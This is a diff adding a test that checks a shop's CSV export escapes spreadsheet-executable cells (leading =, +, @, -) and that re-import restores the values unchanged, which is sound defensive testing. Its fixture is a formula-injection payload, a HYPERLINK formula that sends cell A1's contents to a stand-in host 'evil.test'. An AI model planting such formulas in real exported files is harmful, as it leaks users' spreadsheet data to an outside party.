@@ -231,3 +231,39 @@ describe("CSV export and import", () => {
     expect(await counts()).toEqual(before);
   });
 });
+
+describe("cells a spreadsheet would run", () => {
+  it("exports them behind a quote, and importing the export gives back every value as it was", async () => {
+    const formula = '=HYPERLINK("http://evil.test/?"&A1,"Open")';
+    await shop.services.catalogAdmin.createProduct(actor, {
+      name: formula,
+      categorySlug: "home",
+      price: 9,
+      stock: 3,
+      brand: "@vendor",
+      description: "<p>-10 °C and colder</p>",
+      image: [],
+      specifications: [
+        { name: "+Plus", value: "'=already quoted" },
+        { name: "Range", value: "-5" },
+      ],
+    } as never);
+    const first = await exportCsv();
+    const row = rowsOf(first).find((r) => r[col("Title")]?.includes("HYPERLINK"))!;
+    const handle = row[col("Handle")]!;
+    const rows = rowsOf(first).filter((r) => r[0] === handle);
+    expect(row[col("Title")]).toBe(`'${formula}`);
+    expect(row[col("Vendor")]).toBe("'@vendor");
+    expect(rows.map((r) => [r[col("Specification Name")], r[col("Specification Value")]])).toEqual([
+      ["'+Plus", "''=already quoted"],
+      ["Range", "-5"],
+    ]);
+
+    const { status, report } = await importCsv(first);
+    expect(status).toBe(200);
+    expect(report.products.find((p) => p.handle === handle)).toMatchObject({ action: "unchanged", name: formula });
+    expect(await exportCsv()).toBe(first);
+    const { data: product } = await productBySlug(handle);
+    expect(product).toMatchObject({ name: formula, brand: "@vendor", specifications: [{ name: "+Plus", value: "'=already quoted" }, { name: "Range", value: "-5" }] });
+  });
+});
